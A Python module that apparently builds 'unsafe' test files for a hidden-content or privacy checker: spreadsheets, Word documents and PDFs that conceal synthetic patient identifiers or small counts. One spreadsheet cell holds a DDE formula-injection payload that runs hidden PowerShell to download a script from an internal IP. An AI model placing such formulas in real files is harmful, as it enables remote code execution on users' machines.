"""Excel, Word and PDF files with something hidden or embedded: unsafe ones."""

import io
import zipfile

import docx
import openpyxl
import pikepdf
import xlsxwriter
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from openpyxl.comments import Comment
from openpyxl.styles import Font
from reportlab.lib import colors
from reportlab.lib.pagesizes import A4
from reportlab.lib.styles import getSampleStyleSheet
from reportlab.pdfgen import canvas
from reportlab.platypus import Paragraph, SimpleDocTemplate, Table

from .tools import down, ipp, name, nir, part, parts

VARS_FR = [
    "Femmes",
    "Hypertension",
    "Diabète",
    "Dyslipidémie",
    "Tabagisme actif",
    "Obésité",
    "Fibrillation atriale",
    "Insuffisance cardiaque",
    "BPCO",
    "Insuffisance rénale",
    "Cancer",
    "Antiplaquettaire",
]
VARS_EN = [
    "Female",
    "Hypertension",
    "Diabetes",
    "Dyslipidaemia",
    "Current smoker",
    "Obesity",
    "Atrial fibrillation",
    "Heart failure",
    "COPD",
    "CKD",
    "Cancer",
    "Antiplatelet",
]


def table1(r, a, b, names, dec=","):
    out = []
    for v in names:
        x, y = part(r, a), part(r, b)

        def f(q):
            return f"{q:.1f}".replace(".", dec)

        out.append(
            [
                v,
                f"{x} ({f(100 * x / a)})",
                f"{y} ({f(100 * y / b)})",
                f"{r.uniform(0.001, 0.9):.3f}".replace(".", dec),
            ]
        )
    return out


def book(path, sheets, after=None):
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    wb.properties.creator = ""
    for t, rows in sheets.items():
        ws = wb.create_sheet(t)
        for row in rows:
            ws.append(row)
        for c in ws[1]:
            c.font = Font(bold=True)
    if after:
        after(wb)
    wb.save(path)


def rezip(path, add):
    old = zipfile.ZipFile(path)
    files = {n: old.read(n) for n in old.namelist()}
    old.close()
    for n, d in add.items():
        files[n] = d(files[n]) if callable(d) else d
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for n, d in files.items():
            z.writestr(n, d)


def word(path, title, paras, head, rows, after=None, end=()):
    d = docx.Document()
    d.core_properties.author = ""
    d.core_properties.comments = ""
    d.add_heading(title, 1)
    for p in paras:
        d.add_paragraph(p)
    t = d.add_table(1, len(head), style="Light Grid Accent 1")
    for i, h in enumerate(head):
        t.rows[0].cells[i].text = h
    for row in rows:
        cells = t.add_row().cells
        for i, v in enumerate(row):
            cells[i].text = str(v)
    for p in end:
        d.add_paragraph(p)
    if after:
        after(d)
    d.save(path)


def pdf(title, paras, rows):
    b = io.BytesIO()
    s = getSampleStyleSheet()
    doc = SimpleDocTemplate(b, pagesize=A4, title=title, author="")
    doc.build(
        [
            Paragraph(title, s["Title"]),
            *[Paragraph(p, s["BodyText"]) for p in paras],
            Table(
                rows,
                style=[
                    ("GRID", (0, 0), (-1, -1), 0.4, colors.grey),
                    ("BACKGROUND", (0, 0), (-1, 0), colors.lightgrey),
                ],
            ),
        ]
    )
    return b.getvalue()


def write(shelf):
    r = shelf.random("office_hidden")
    L = [
        "Cardiologie",
        "Neurologie",
        "Pneumologie",
        "Gériatrie",
        "Urologie",
        "Néphrologie",
        "Hématologie",
        "Oncologie",
        "Rhumatologie",
        "Dermatologie",
    ]

    def act(tot):
        return [
            ["Service", "Séjours", "DMS (j)"],
            *[[s, n, round(r.uniform(3, 12), 1)] for s, n in zip(L, parts(r, tot, 10, 120))],
        ]

    book(
        shelf.unsafe(
            "activite_services_2023.xlsx",
            "very hidden sheet with rows",
            "veryHidden sheet '_src': 60 stays with IPP",
            "Activité des services en 2023.",
            "14 800 séjours",
        ),
        {
            "Activité": act(14800),
            "_src": [
                ["IPP", "Entrée", "GHM"],
                *[
                    [
                        int(ipp(r)),
                        f"2023-{r.randrange(1, 13):02d}-{r.randrange(1, 28):02d}",
                        r.choice(["05M09", "04M05"]),
                    ]
                    for _ in range(60)
                ],
            ],
        },
        lambda wb: setattr(wb["_src"], "sheet_state", "veryHidden"),
    )

    def rows_hidden(wb):
        ws = wb["Table 2"]
        ws.row_dimensions[9].hidden = True

    rows = [
        ["Complication", "Laparoscopy", "Open"],
        *[
            [c, part(r, 1200, 0.03, 0.2), part(r, 900, 0.04, 0.3)]
            for c in (
                "Ileus",
                "Wound infection",
                "Pneumonia",
                "Urinary infection",
                "Bleeding",
                "Readmission",
                "Reoperation",
            )
        ],
        ["Death", 3, 17],
        ["AKI", 88, 91],
        ["Delirium", 64, 93],
    ]
    book(
        shelf.unsafe(
            "table2_colectomy.xlsx",
            "hidden row with a small cell",
            "row 9: Death, Laparoscopy 3",
            "Complications after colectomy by approach.",
            "2 100 colectomies (1 200 laparoscopic, 900 open)",
        ),
        {"Table 2": rows},
        rows_hidden,
    )

    def fmt(wb):
        for c in wb["Biologie"]["E"][1:] + wb["Biologie"]["F"][1:]:
            c.number_format = ";;;"

    book(
        shelf.unsafe(
            "biologie_admission.xlsx",
            "extremes hidden by a number format",
            "columns E and F (min, max) with the format ;;;",
            "Biologie à l'admission, moyennes et écarts-types.",
            "5 020 patients",
        ),
        {
            "Biologie": [
                ["Paramètre", "n", "Moyenne", "ET", "", ""],
                *[
                    [p, r.randrange(4600, 5020), m, s, lo, hi]
                    for p, m, s, lo, hi in (
                        ("Sodium", 137.2, 4.9, 101, 171),
                        ("Potassium", 4.1, 0.6, 1.7, 8.9),
                        ("Créatinine", 98.1, 70.2, 19, 1402),
                        ("CRP", 71.0, 83.3, 0.3, 591),
                        ("Hémoglobine", 12.4, 2.1, 2.9, 21.3),
                        ("Plaquettes", 241, 103, 2, 1377),
                        ("Albumine", 33.8, 6.1, 9, 54),
                    )
                ],
            ]
        },
        fmt,
    )

    def comment(wb):
        wb["HbA1c"]["C5"].comment = Comment(
            f"valeur tirée par {name(r)} (tél. 06 {r.randrange(10, 99)} {r.randrange(10, 99)} {r.randrange(10, 99)} {r.randrange(10, 99)}), à vérifier",
            "",
        )

    book(
        shelf.unsafe(
            "hba1c_suivi.xlsx",
            "identifier in a cell comment",
            "comment on HbA1c!C5: name and phone",
            "HbA1c moyenne par semestre de suivi.",
            "1 980 patients diabétiques",
        ),
        {
            "HbA1c": [
                ["Semestre", "n", "HbA1c moyenne (%)", "ET"],
                *[
                    [f"S{i}", n, round(8.6 - 0.1 * i, 1), round(r.uniform(1, 1.6), 1)]
                    for i, n in enumerate(down(r, 1980, 8, 0.03, 0.09), 1)
                ],
            ]
        },
        comment,
    )

    p = shelf.unsafe(
        "pivot_admissions.xlsx",
        "row-level data in a pivot cache",
        "xl/pivotCache/pivotCacheRecords1.xml holds 80 patients",
        "Pivot table of admissions by ward.",
        "9 900 admissions",
    )
    book(
        p,
        {
            "Pivot": [
                ["Ward", "Admissions"],
                *[
                    [w, n]
                    for w, n in zip(
                        ("Medicine", "Surgery", "Geriatrics", "Cardiology", "Neurology", "Oncology"),
                        parts(r, 9900, 6, 500),
                    )
                ],
            ]
        },
    )
    rezip(
        p,
        {
            "xl/pivotCache/pivotCacheRecords1.xml": (
                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<pivotCacheRecords xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="80">'
                + "".join(
                    f'<r><s v="{ipp(r)}"/><s v="{name(r)}"/><n v="{r.randrange(20, 89)}"/><s v="{r.choice(["Medicine", "Surgery"])}"/></r>'
                    for _ in range(80)
                )
                + "</pivotCacheRecords>"
            ).encode(),
            "xl/pivotCache/pivotCacheDefinition1.xml": b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<pivotCacheDefinition xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" recordCount="80"><cacheSource type="worksheet"><worksheetSource ref="A1:D81" sheet="src"/></cacheSource><cacheFields count="4"><cacheField name="IPP"/><cacheField name="Nom"/><cacheField name="Age"/><cacheField name="Ward"/></cacheFields></pivotCacheDefinition>',
            "[Content_Types].xml": lambda d: d.replace(
                b"</Types>",
                b'<Override PartName="/xl/pivotCache/pivotCacheRecords1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.pivotCacheRecords+xml"/><Override PartName="/xl/pivotCache/pivotCacheDefinition1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.pivotCacheDefinition+xml"/></Types>',
            ),
        },
    )

    wb = xlsxwriter.Workbook(
        str(
            shelf.unsafe(
                "couts_dialyse.xlsx",
                "formula injection",
                "cell D4 runs a command (DDE)",
                "Coûts moyens de dialyse par modalité.",
                "1 400 patients dialysés",
            )
        )
    )
    ws = wb.add_worksheet("Coûts")
    for i, row in enumerate(
        [
            ["Modalité", "Patients", "Coût moyen (€)"],
            ["Centre", 812, 88210],
            ["UDM", 301, 71044],
            ["Autodialyse", 188, 59310],
            ["Domicile", 99, 48120],
        ]
    ):
        ws.write_row(i, 0, row)
    ws.write_string(3, 3, "=cmd|'/c powershell -w hidden iwr http://10.2.0.4/a.ps1'!A0")
    wb.close()

    def deleted(d):
        d.paragraphs[-1]._p.append(
            parse_xml(
                f'<w:del {nsdecls("w")} w:id="7" w:author="" w:date="2024-02-01T09:00:00Z"><w:r><w:delText xml:space="preserve"> Trois patients sont décédés d\'une aspergillose invasive, dont deux greffés.</w:delText></w:r></w:del>'
            )
        )

    word(
        shelf.unsafe(
            "resultats_aspergillose.docx",
            "small counts in a tracked deletion",
            "w:del in the last paragraph: 'Trois patients'",
            "Paragraphe de résultats et tableau de l'article.",
            "1 512 patients de réanimation sous corticoïdes",
        ),
        "Résultats",
        [
            "Entre 2016 et 2022, 1 512 patients ont été inclus, 884 dans le groupe dexaméthasone et 628 dans le groupe contrôle."
        ],
        ["Variable, n (%)", "Dexaméthasone (n = 884)", "Contrôle (n = 628)", "p"],
        table1(r, 884, 628, VARS_FR),
        deleted,
        ["La mortalité à 28 jours était de 24,1 % et 27,4 % (p = 0,15)."],
    )

    def vanish(d):
        run = d.add_paragraph().add_run(f"TODO check with ward: {name(r)}, DOB 12/05/1951, NIR {nir(r)}")
        run.font.hidden = True

    word(
        shelf.unsafe(
            "manuscript_tables.docx",
            "hidden text with an identifier",
            "a run with the hidden property: name, birth date, NIR",
            "Tables of the manuscript.",
            "3 344 patients with stroke",
        ),
        "Table 1. Baseline characteristics",
        ["Values are n (%)."],
        ["Variable", "Thrombectomy (N=1611)", "Medical (N=1733)", "P"],
        table1(r, 1611, 1733, VARS_EN, "."),
        vanish,
    )

    b = io.BytesIO()
    book(
        b,
        {
            "data": [
                ["id", "age", "ttr", "bleed"],
                *[[i, r.randrange(30, 89), r.randrange(20, 95), r.choice([0, 1])] for i in range(1, 120)],
            ]
        },
    )
    p = shelf.unsafe(
        "rapport_avk.docx",
        "embedded workbook with rows",
        "word/embeddings/Microsoft_Excel_Sheet1.xlsx: 119 patients",
        "Rapport sur le temps dans la zone thérapeutique sous AVK.",
        "2 260 patients sous AVK",
    )
    word(
        p,
        "TTR sous AVK",
        ["TTR médian : 63 % [48 ; 77]."],
        ["Variable, n (%)", "TTR < 60 % (n = 1002)", "TTR ≥ 60 % (n = 1258)", "p"],
        table1(r, 1002, 1258, VARS_FR),
    )
    rezip(
        p,
        {
            "word/embeddings/Microsoft_Excel_Sheet1.xlsx": b.getvalue(),
            "[Content_Types].xml": lambda d: d.replace(
                b"</Types>",
                b'<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/></Types>',
            ),
            "word/_rels/document.xml.rels": lambda d: d.replace(
                b"</Relationships>",
                b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/package" Target="embeddings/Microsoft_Excel_Sheet1.xlsx"/></Relationships>',
            ),
        },
    )

    base = pdf(
        "Hepatitis B cohort - annual report",
        ["The cohort includes 2,870 patients; viral suppression reached 91 % at 24 months."],
        [
            ["Year", "Tested", "Suppressed"],
            *[
                [str(y), str(a), str(part(r, a, 0.6, 0.85))]
                for y, a in zip(range(2016, 2024), parts(r, 2870, 8, 200))
            ],
        ],
    )
    with pikepdf.open(io.BytesIO(base)) as q:
        q.pages[0].Annots = q.make_indirect(
            pikepdf.Array(
                [
                    q.make_indirect(
                        pikepdf.Dictionary(
                            Type=pikepdf.Name.Annot,
                            Subtype=pikepdf.Name.Text,
                            Rect=[400, 700, 420, 720],
                            Contents=pikepdf.String(f"Ask {name(r)} (MRN {ipp(r)}) why the 2019 load is discordant"),
                            Open=False,
                        )
                    )
                ]
            )
        )
        q.save(
            shelf.unsafe(
                "hbv_annual_report.pdf",
                "identifier in a PDF annotation",
                "sticky note: name and IPP",
                "Annual report of the hepatitis B cohort.",
                "2 870 patients",
            )
        )

    cv = canvas.Canvas(
        str(
            shelf.unsafe(
                "deces_maternels.pdf",
                "text under a black box",
                "the value under the rectangle is '4'",
                "Morbidité maternelle sévère par cause, valeurs faibles masquées.",
                "41 000 accouchements",
            )
        ),
        pagesize=A4,
    )
    cv.setTitle("Morbidité maternelle")
    cv.setFont("Helvetica", 12)
    cv.drawString(60, 790, "Morbidité maternelle sévère, 2012-2023")
    for i, (a, n) in enumerate(
        (
            ("Hémorragie du post-partum", 611),
            ("Pré-éclampsie sévère", 388),
            ("Sepsis", 97),
            ("Événement thrombo-embolique", 52),
            ("Rupture utérine", 31),
            ("Embolie amniotique", 4),
        )
    ):
        cv.drawString(70, 750 - 24 * i, a)
        cv.drawString(330, 750 - 24 * i, str(n))
    cv.rect(322, 750 - 24 * 5 - 4, 40, 18, fill=1)
    cv.save()

    a = pdf(
        "Nutrition clinic 2022",
        ["1,644 patients, first version."],
        [
            ["Diagnosis", "n"],
            ["Malnutrition", "812"],
            ["Obesity", "611"],
            ["Eating disorder", "214"],
            ["Chylothorax", "7"],
        ],
    )
    z = pdf(
        "Nutrition clinic 2022",
        ["1,644 patients; rare diagnoses grouped."],
        [["Diagnosis", "n"], ["Malnutrition", "812"], ["Obesity", "611"], ["Eating disorder or rare", "221"]],
    )
    with pikepdf.open(io.BytesIO(z)) as q:
        q.attachments["previous_version.pdf"] = a
        q.save(
            shelf.unsafe(
                "nutrition_clinic.pdf",
                "embedded previous version with a small cell",
                "attachment previous_version.pdf: Chylothorax 7",
                "Diagnoses of the nutrition clinic.",
                "1 644 patients",
            )
        )
